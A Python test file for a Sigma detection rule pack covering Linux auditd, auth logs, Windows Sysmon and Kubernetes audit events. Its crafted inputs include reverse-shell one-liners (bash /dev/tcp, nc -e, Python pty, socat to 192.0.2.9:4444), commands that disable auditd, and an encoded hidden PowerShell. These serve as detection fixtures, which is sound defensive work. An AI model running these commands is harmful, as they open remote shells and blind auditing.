"""auditlens' Sigma rule pack (analysis/rules): every rule is well formed and runs on the store,
and, per platform, exactly which rules fire on which records of real attack recordings, of
the other real fixtures and of the synthetic incident in data-samples (and not on its decoys)."""

from __future__ import annotations

import json
import re
import tomllib
import uuid
from collections import defaultdict
from fnmatch import fnmatch
from pathlib import Path

import pytest
import yaml
from sigma.collection import SigmaCollection

from analysis.detect.sigma.engine import check_rules, findings_of, load_rules, run_rules
from analysis.detect.sigma.pipeline import logsource_of
from analysis.rules import PACK
from analysis.scope import Scope
from loaders.base import LoadOptions
from loaders.ingest.pipeline import ingest
from loaders.store.store import Store

ROOT = Path(__file__).resolve().parent.parent
FIX = ROOT / "tests" / "fixtures"
RULE_FILES = sorted(PACK.rglob("*.yml"))
TACTICS = {"reconnaissance", "resource_development", "initial_access", "execution",
           "persistence", "privilege_escalation", "defense_evasion", "credential_access",
           "discovery", "lateral_movement", "collection", "command_and_control",
           "exfiltration", "impact"}

# rule ids, by file name, so the expectations below read as rule names
ID = {p.stem: str(yaml.safe_load(p.read_text(encoding="utf-8"))["id"]) for p in RULE_FILES}

Hits = dict[str, list[tuple[str, int]]]


def pack_hits(root: Path) -> Hits:
    """Rule file stem → sorted (file name, source line) of every event the rule hit."""
    ruleset = load_rules([PACK])
    assert not ruleset.skipped
    con = Scope(root).connect()
    stem = {v: k for k, v in ID.items()}
    out: dict[str, list[tuple[str, int]]] = defaultdict(list)
    for rule, hits in run_rules(con, ruleset):
        for uid, *_ in hits:
            f, line = con.execute("SELECT source_file, source_line FROM events "
                                  "WHERE event_uid = ?", [uid]).fetchone()
            out[stem[rule.rule_id]].append((Path(f).name, int(line)))
    return {k: sorted(v) for k, v in out.items()}


def store_of(tmp_path: Path, paths: list[Path], **kw: int) -> Path:
    root = tmp_path / "store"
    assert ingest(Store(root), paths, options=LoadOptions(**kw)).ok  # type: ignore[arg-type]
    return root


# -- every rule ----------------------------------------------------------------------------


def test_pack_is_not_empty_and_ids_are_unique() -> None:
    assert len(RULE_FILES) >= 20
    assert len(set(ID.values())) == len(ID)


@pytest.mark.parametrize("path", RULE_FILES, ids=lambda p: p.stem)
def test_rule_is_well_formed(path: Path) -> None:
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert str(uuid.UUID(doc["id"])) == doc["id"]
    assert doc["author"] == "auditlens"
    assert doc["title"] and doc["description"] and doc["falsepositives"]
    assert doc["level"] in {"informational", "low", "medium", "high", "critical"}
    tags = doc["tags"]
    assert any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in tags), tags
    assert {t.removeprefix("attack.") for t in tags} & TACTICS, tags
    (rule,) = SigmaCollection.from_yaml(path.read_text(encoding="utf-8")).rules
    assert not rule.errors
    assert logsource_of(rule.logsource) is not None


def test_every_rule_parses_converts_and_runs() -> None:
    rows = check_rules([PACK])
    assert len(rows) == len(RULE_FILES)
    assert [r for r in rows if not r.runs] == []


def test_pyproject_ships_the_rule_files() -> None:
    conf = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    globs = conf["tool"]["setuptools"]["package-data"]["analysis.rules"]
    for p in RULE_FILES:
        assert any(fnmatch(p.relative_to(PACK).as_posix(), g) for g in globs), p


def test_finding_carries_attack_ids_and_level(tmp_path: Path) -> None:
    root = store_of(tmp_path, [FIX / "k8s-audit" / "falco_trace_files_k8s_audit.jsonl"])
    ruleset = load_rules([PACK / "kubernetes" / "k8s_cluster_admin_binding.yml"])
    ((rule, hits),) = run_rules(Scope(root).connect(), ruleset)
    (finding,) = findings_of(rule, hits)
    assert finding.detector == f"sigma:{ID['k8s_cluster_admin_binding']}"
    assert finding.attack == ("T1098",)
    assert finding.severity == "high"
    assert finding.entity == "minikube-user"


# -- real recordings -----------------------------------------------------------------------


def test_kubernetes_falco_traces(tmp_path: Path) -> None:
    """Falco's k8s audit traces: exec and attach, an anonymous request allowed, a binding to
    cluster-admin, privileged / host-network pods and hostPath mounts (pods created by the
    replicaset controller from deployments Falco's tests make)."""
    f = "falco_trace_files_k8s_audit.jsonl"
    root = store_of(tmp_path, [FIX / "k8s-audit" / f])
    assert pack_hits(root) == {
        "k8s_anonymous_request_allowed": [(f, 1)],
        "k8s_cluster_admin_binding": [(f, 2)],
        "k8s_pod_exec_attach": [(f, 3), (f, 48)],
        "k8s_privileged_pod": [(f, 20), (f, 21), (f, 23)],
        "k8s_hostpath_pod": [(f, 25), (f, 26)],
    }


def test_linux_auditd_perl_reverse_shell(tmp_path: Path) -> None:
    f = "laurel_record-perl-reverse-shell.txt"
    root = store_of(tmp_path, [FIX / "linux-auditd" / f])
    assert pack_hits(root) == {"lnx_reverse_shell_cmdline": [(f, 1)]}


def test_linux_auditd_fixtures(tmp_path: Path) -> None:
    """All auditd fixtures: the reverse shell, accounts and groups added, auditd's end, a rule
    removed and `systemctl stop auditd` through sudo, and `sudo su`."""
    root = store_of(tmp_path, [FIX / "linux-auditd"])
    assert pack_hits(root) == {
        "lnx_reverse_shell_cmdline": [("laurel_record-perl-reverse-shell.txt", 1)],
        "lnx_auditd_add_user_group": [("audit-userspace_auparse_test3.log", 15),
                                      ("go-libaudit_auparse_audit-rhel7.log", 1),
                                      ("go-libaudit_auparse_audit-rhel7.log", 2),
                                      ("plaso_audit_enriched.log", 2)],
        "lnx_auditd_audit_tampering": [("go-libaudit_aucoalesce_events.log", 66),
                                       ("go-libaudit_auparse_audit-rhel7.log", 13),
                                       ("msticpy_auditd_log.txt", 569),
                                       ("synthetic_interleaved_out_of_order.log", 2)],
        "lnx_auditd_sudo_root_shell": [("go-libaudit_aucoalesce_events.log", 86)],
    }


def test_linux_auth_and_syslog_fixtures(tmp_path: Path) -> None:
    """The fixtures' `sudo bash` lines are refused attempts (not in sudoers, wrong password):
    no root shell ran, so the root-shell rule stays quiet on them."""
    root = store_of(tmp_path, [FIX / "linux-auth", FIX / "linux-syslog"], year=2026)
    assert pack_hits(root) == {
        "lnx_new_user_or_group": [("synthetic_debian_auth.log", 22),
                                  ("synthetic_debian_auth.log", 23)],
        "lnx_user_added_to_admin_group": [("synthetic_debian_auth.log", 25)],
        "lnx_sudo_audit_disabled": [("synthetic_debian_auth.log", 12)],
    }


SUDO_LOG = """\
Mar  2 09:00:01 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/bin/bash
Mar  2 09:00:02 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/usr/bin/su -
Mar  2 09:00:03 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/usr/bin/zsh -l
Mar  2 09:00:04 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/usr/bin/apt update
Mar  2 09:00:05 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/bin/bash /opt/b.sh
Mar  2 09:00:06 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/bin/sh -c id
Mar  2 09:00:07 db1 sudo: m : user NOT in sudoers ; TTY=1 ; PWD=/ ; USER=root ; COMMAND=/bin/bash
Mar  2 09:00:08 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=postgres ; COMMAND=/bin/bash
Mar  2 09:00:09 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/sbin/auditctl -D
Mar  2 09:00:10 db1 sudo: al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/sbin/auditctl -l
"""


def test_linux_sudo_root_shell_and_audit_commands(tmp_path: Path) -> None:
    """Interactive root shells (bash, su -, zsh -l) only: not a script, not `sh -c`, not a
    refused attempt, not a shell as another user; auditctl -D but not -l."""
    log = tmp_path / "auth.log"
    log.write_text(SUDO_LOG, encoding="utf-8")
    root = store_of(tmp_path, [log], year=2026)
    assert pack_hits(root) == {"lnx_sudo_root_shell": [("auth.log", n) for n in (1, 2, 3)],
                               "lnx_sudo_audit_disabled": [("auth.log", 9)]}


def test_windows_sysmon_recordings(tmp_path: Path) -> None:
    """OTRF's Log4Shell recording: Tomcat starts an encoded PowerShell; Procmon (run from a
    temp folder) opening LSASS with full access; a Winlogbeat sample's LSASS read."""
    d = FIX / "windows-sysmon"
    root = store_of(tmp_path, sorted(p for p in d.iterdir() if p.suffix in (".evtx", ".ndjson")))
    log4shell = "otrf_log4shell_sysmon_sentinel.ndjson"
    assert pack_hits(root) == {
        "win_powershell_encoded_command": [(log4shell, 28)],
        "win_server_or_office_spawns_shell": [(log4shell, 28)],
        "win_lsass_access": [("evtx-rs_sysmon.evtx", n) for n in (135, 136, 139, 140)]
        + [("winlogbeat_mixed.ndjson", 3)],
    }


# -- data-samples: the synthetic incident and its decoys -----------------------------------


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("samples") / "store"
    assert ingest(Store(root), [ROOT / "data-samples"], options=LoadOptions(year=2026)).ok
    return root


def _lines(events: list[dict[str, object]]) -> dict[tuple[str, int], str]:
    """(file name, line) → step, for every line of every ground-truth record."""
    out = {}
    for e in events:
        for line in range(int(str(e["line"])), int(str(e["end_line"])) + 1):
            out[(Path(str(e["file"])).name, line)] = str(e["step"])
    return out


def test_data_samples_incident_found_and_decoys_quiet(samples: Path) -> None:
    truth = json.loads((ROOT / "data-samples" / "ground-truth.json").read_text())
    incident = _lines(truth["incident"]["events"])
    decoy = {k: s for d in truth["decoys"].values() for k, s in _lines(d["events"]).items()}
    hits = pack_hits(samples)
    steps: dict[str, set[str]] = defaultdict(set)
    on_decoys, on_normal = set(), set()
    for rule, where in hits.items():
        for at in where:
            if at in incident:
                steps[rule].add(incident[at])
            elif at in decoy:
                on_decoys.add((rule, at, decoy[at]))
            else:
                on_normal.add((rule, at))
    assert dict(steps) == {
        "k8s_cluster_admin_binding": {"ClusterRoleBinding to cluster-admin"},
        "k8s_serviceaccount_token_created": {"service account token issued"},
        "k8s_secrets_listed_cluster_wide": {"list secrets in all namespaces"},
        "k8s_pod_exec_attach": {"exec into a pod"},
        "k8s_privileged_pod": {"privileged pod with host mounts"},
        "k8s_hostpath_pod": {"privileged pod with host mounts"},
        "lnx_sudo_root_shell": {"sudo to root"},
        "lnx_auditd_sudo_root_shell": {"sudo to root"},
        "lnx_exec_from_tmp": {"execute the download from /tmp"},
        "lnx_new_user_or_group": {"new local user created"},
        "lnx_user_added_to_admin_group": {"new local user created"},
        "lnx_auditd_add_user_group": {"new local user created"},
        "win_powershell_encoded_command": {"encoded PowerShell",
                                           "encoded PowerShell (process creation audit)"},
        "win_lsass_access": {"LSASS memory access"},
    }
    # nothing on the normal activity of two weeks
    assert on_normal == set()
    # the one decoy overlap is by design: the planned maintenance's `sudo -i` IS a sudo to a
    # root shell; what makes it benign (announced window, the admin's home address) is context
    # no single-event rule has, so both sudo rules fire on it and say so in falsepositives
    assert on_decoys == {("lnx_sudo_root_shell", ("auth.log", 470), "sudo to root"),
                         ("lnx_auditd_sudo_root_shell", ("audit.log", 3543), "sudo to root")}


# -- faithful tiny inputs: what no fixture holds ---------------------------------------------


def _execve(serial: int, exe: str, *argv: str) -> str:
    """One auditd execve event (SYSCALL + EXECVE with hex-encoded arguments + EOE)."""
    head = f"msg=audit(1767225600.{serial:03d}:{serial})"
    args = " ".join(f"a{i}={a.encode().hex().upper()}" for i, a in enumerate(argv))
    return (f'type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 ppid=1 '
            f'pid={1000 + serial} auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 '
            f'comm="{Path(exe).name}" exe="{exe}" key="exec"\n'
            f"type=EXECVE {head}: argc={len(argv)} {args}\n"
            f"type=EOE {head}: \n")


EXECS = [  # (exe, argv, rules expected)
    ("/tmp/.cache/kworker", ["/tmp/.cache/kworker"], ["lnx_exec_from_tmp"]),
    ("/dev/shm/x", ["/dev/shm/x", "-d"], ["lnx_exec_from_tmp"]),
    ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"],
     ["lnx_reverse_shell_cmdline"]),
    ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "192.0.2.9", "4444"],
     ["lnx_reverse_shell_cmdline"]),
    ("/usr/bin/python3.11", ["python3", "-c", "import socket,os,pty;s=socket.socket();"
                             "s.connect(('192.0.2.9',4444));[os.dup2(s.fileno(),f) for f in "
                             "(0,1,2)];pty.spawn('/bin/sh')"], ["lnx_reverse_shell_cmdline"]),
    ("/usr/bin/socat", ["socat", "tcp:192.0.2.9:4444", "exec:/bin/sh,pty,stderr"],
     ["lnx_reverse_shell_cmdline"]),
    ("/usr/sbin/auditctl", ["auditctl", "-e", "0"], ["lnx_audit_disabled_cmd"]),
    ("/usr/bin/systemctl", ["systemctl", "stop", "auditd"], ["lnx_audit_disabled_cmd"]),
    # normal: a port probe with nc, python using sockets, auditctl listing, systemctl status
    ("/usr/bin/nc.openbsd", ["nc", "-z", "db1", "5432"], []),
    ("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"], []),
    ("/usr/sbin/auditctl", ["auditctl", "-l"], []),
    ("/usr/bin/systemctl", ["systemctl", "status", "auditd"], []),
    ("/usr/bin/find", ["find", "/tmp", "-mtime", "+7", "-delete"], []),
]


def test_linux_process_creation_rules(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text("".join(_execve(i + 1, exe, *argv) for i, (exe, argv, _) in enumerate(EXECS)),
                   encoding="utf-8")
    root = store_of(tmp_path, [log])
    want: dict[str, list[tuple[str, int]]] = defaultdict(list)
    for i, (_, _, rules) in enumerate(EXECS):
        for r in rules:
            want[r].append(("audit.log", 3 * i + 1))
    assert pack_hits(root) == dict(want)


def _winlogbeat(n: int, channel: str, event_id: int, provider: str,
                data: dict[str, str]) -> str:
    return json.dumps({
        "@timestamp": f"2026-03-02T10:00:{n:02d}.000Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3"},
        "winlog": {"channel": channel, "event_id": str(event_id), "provider_name": provider,
                   "computer_name": "WS-01", "record_id": str(n), "event_data": data}}) + "\n"


SYSMON = "Microsoft-Windows-Sysmon/Operational"
WIN = [  # (channel, event id, provider, event data, rules expected)
    (SYSMON, 13, "Microsoft-Windows-Sysmon",
     {"EventType": "SetValue", "Image": "C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe",
      "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
      "Details": "C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe"}, ["win_run_key_persistence"]),
    (SYSMON, 13, "Microsoft-Windows-Sysmon",
     {"EventType": "SetValue", "Image": "C:\\Windows\\system32\\services.exe",
      "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\BITS\\Start",
      "Details": "DWORD (0x00000003)"}, []),
    ("System", 7045, "Service Control Manager",
     {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
      "ServiceType": "user mode service", "StartType": "demand start",
      "AccountName": "LocalSystem"}, ["win_new_service_system"]),
    ("Security", 4697, "Microsoft-Windows-Security-Auditing",
     {"ServiceName": "updsvc", "ServiceFileName": "C:\\ProgramData\\u.exe",
      "SubjectUserName": "u"}, ["win_new_service_security"]),
    (SYSMON, 8, "Microsoft-Windows-Sysmon",
     {"SourceImage": "C:\\Users\\u\\Downloads\\inj.exe",
      "TargetImage": "C:\\Windows\\explorer.exe", "StartAddress": "0x00000000001A0000"},
     ["win_create_remote_thread"]),
    (SYSMON, 8, "Microsoft-Windows-Sysmon",
     {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
      "TargetImage": "C:\\Windows\\System32\\svchost.exe", "StartAddress": "0x7FF6"}, []),
    (SYSMON, 1, "Microsoft-Windows-Sysmon",
     {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
      "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"},
     ["win_server_or_office_spawns_shell"]),
    (SYSMON, 1, "Microsoft-Windows-Sysmon",
     {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "CommandLine": "powershell.exe -nop -w hidden -encodedcommand SQBFAFgA",
      "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},
     ["win_powershell_encoded_command", "win_server_or_office_spawns_shell"]),
    (SYSMON, 1, "Microsoft-Windows-Sysmon",  # normal: Excel opening a file, a PS script
     {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
      "CommandLine": "EXCEL.EXE /dde", "ParentImage": "C:\\Windows\\explorer.exe"}, []),
    (SYSMON, 1, "Microsoft-Windows-Sysmon",
     {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "CommandLine": "powershell.exe -ExecutionPolicy Bypass -File C:\\s\\patch.ps1",
      "ParentImage": "C:\\Windows\\explorer.exe"}, []),
    (SYSMON, 10, "Microsoft-Windows-Sysmon",
     {"SourceImage": "C:\\Windows\\system32\\svchost.exe",
      "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1000"}, []),
]


def test_windows_rules(tmp_path: Path) -> None:
    log = tmp_path / "winlogbeat.ndjson"
    log.write_text("".join(_winlogbeat(i, *row[:4]) for i, row in enumerate(WIN)),
                   encoding="utf-8")
    root = store_of(tmp_path, [log])
    want: dict[str, list[tuple[str, int]]] = defaultdict(list)
    for i, row in enumerate(WIN):
        for r in row[4]:
            want[r].append(("winlogbeat.ndjson", i + 1))
    assert pack_hits(root) == dict(want)


def _k8s(n: int, user: str, verb: str, resource: str, code: int, *, ns: str | None = None,
         sub: str | None = None, uri: str = "/api/v1/x") -> str:
    ref: dict[str, str] = {"resource": resource, "apiVersion": "v1"}
    if ns:
        ref["namespace"] = ns
    if sub:
        ref["subresource"] = sub
    return json.dumps({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": str(uuid.UUID(int=n)), "stage": "ResponseComplete", "requestURI": uri,
        "verb": verb, "user": {"username": user, "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.5"], "userAgent": "kubectl/v1.30.0", "objectRef": ref,
        "requestReceivedTimestamp": f"2026-03-02T10:00:{n:02d}.000000Z",
        "stageTimestamp": f"2026-03-02T10:00:{n:02d}.100000Z",
        "responseStatus": {"metadata": {}, "code": code}}) + "\n"


K8S = [  # (user, verb, resource, code, keywords, rules expected)
    ("oidc:jane", "get", "secrets", 200, {"ns": "payments"}, ["k8s_secret_read_by_user"]),
    ("oidc:jane", "list", "secrets", 200, {}, ["k8s_secret_read_by_user",
                                               "k8s_secrets_listed_cluster_wide"]),
    ("system:serviceaccount:tools:dumper", "list", "secrets", 200, {},
     ["k8s_secrets_listed_cluster_wide"]),
    ("system:anonymous", "get", "pods", 200, {"ns": "default", "uri": "/api/v1/pods"},
     ["k8s_anonymous_request_allowed"]),
    ("oidc:jane", "create", "serviceaccounts", 201, {"ns": "ci", "sub": "token"},
     ["k8s_serviceaccount_token_created"]),
    # normal: a refused read, the controller manager's watch, a workload reading its own
    # secret, anonymous health checks and refusals, kubelets' token requests
    ("oidc:jane", "get", "secrets", 403, {"ns": "payments"}, []),
    ("system:kube-controller-manager", "watch", "secrets", 200, {}, []),
    ("system:serviceaccount:ci:deployer", "get", "secrets", 200, {"ns": "ci"}, []),
    ("system:anonymous", "get", "healthz", 200, {"uri": "/healthz"}, []),
    ("system:anonymous", "get", "pods", 401, {"ns": "default", "uri": "/api/v1/pods"}, []),
    ("system:node:node-1", "create", "serviceaccounts", 201,
     {"ns": "payments", "sub": "token"}, []),
]


def test_kubernetes_rules(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text("".join(_k8s(i, *row[:4], **row[4]) for i, row in enumerate(K8S)),
                   encoding="utf-8")
    root = store_of(tmp_path, [log])
    want: dict[str, list[tuple[str, int]]] = defaultdict(list)
    for i, row in enumerate(K8S):
        for r in row[5]:
            want[r].append(("audit.log", i + 1))
    assert pack_hits(root) == dict(want)


def test_findings_attribute_each_rule_to_its_author_and_licence(tmp_path: Path) -> None:
    from analysis.detect.sigma.engine import attribution
    from analysis.rules import PACK

    pack_rule = next(PACK.rglob("*.yml"))
    assert attribution("auditlens", str(pack_rule)) == (
        " Rule by auditlens (auditlens rule pack, Apache-2.0)")
    sigmahq = next((Path(__file__).parent / "fixtures/sigma/rules").glob("*.yml"))
    assert attribution("Jane Doe", str(sigmahq)) == (
        " Rule by Jane Doe, SigmaHQ Detection Rule License 1.1")
    own = tmp_path / "team-rules" / "r.yml"
    assert attribution("", str(own)) == " Rule by unknown"  # no licence guessed
